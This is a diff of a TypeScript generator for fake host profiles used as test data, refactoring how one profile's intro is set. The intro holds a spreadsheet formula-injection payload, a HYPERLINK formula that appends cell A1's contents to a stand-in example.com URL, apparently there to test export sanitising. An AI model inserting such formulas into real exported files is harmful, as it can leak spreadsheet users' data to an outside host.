@@ -24,9 +24,8 @@ const towns = "Innsbruck, Austria|Boulder, CO|Bergen|Zürich|Leeds, UK|São Paul
 const mottos = "Slow is smooth|Carpe diem, carpe coffee|Leave it better|One more bend…".split("|");
 const networks = "instagram|tiktok|youtube|strava|website|twitter|facebook|linkedin".split("|");
 
-/** The text that a spreadsheet would run; the host of this place carries it. */
-const formulaPlace = 3;
-export const formulaIntro = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';
+/** The text that a spreadsheet would run: one host carries it. */
+const formula = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';
 
 export function createPerson(seed: number, place: number): Person {
   const d = draws(seed, "host", place);
@@ -43,7 +42,7 @@ export function createPerson(seed: number, place: number): Person {
     last_name: seldomNull(d, 0.06, last),
     profile_photo: seldomNull(d, 0.1, `https://images.example.com/hosts/${id}.jpg`),
     title: seldomNull(d, 0.2, `${pick(d, disciplines)} coach & "${pick(d, specialties)}" fan`),
-    intro: place === formulaPlace ? formulaIntro : seldomNull(d, 0.15, pick(d, intros.split("|"))),
+    intro: place === 3 ? formula : seldomNull(d, 0.15, pick(d, intros.split("|"))),
     discipline: seldomNull(d, 0.1, pick(d, disciplines)),
     specialty: seldomNull(d, 0.3, pick(d, specialties)),
     location: seldomNull(d, 0.15, pick(d, towns)),
@@ -59,9 +58,8 @@ export function createPerson(seed: number, place: number): Person {
 
 function drawSocials(d: Draws, handle: string): Record<string, string> {
   const chosen = networks.filter(() => chance(d, 0.3));
-  return Object.fromEntries(
-    (chosen.length > 0 ? chosen : ["website"]).map((name) => [name, `https://${name}.example.com/${handle}`]),
-  );
+  const names = chosen.length > 0 ? chosen : ["website"];
+  return Object.fromEntries(names.map((name) => [name, `https://${name}.example.com/${handle}`]));
 }
 
 /** Returns the base host object of orders, analytics and assignments. */
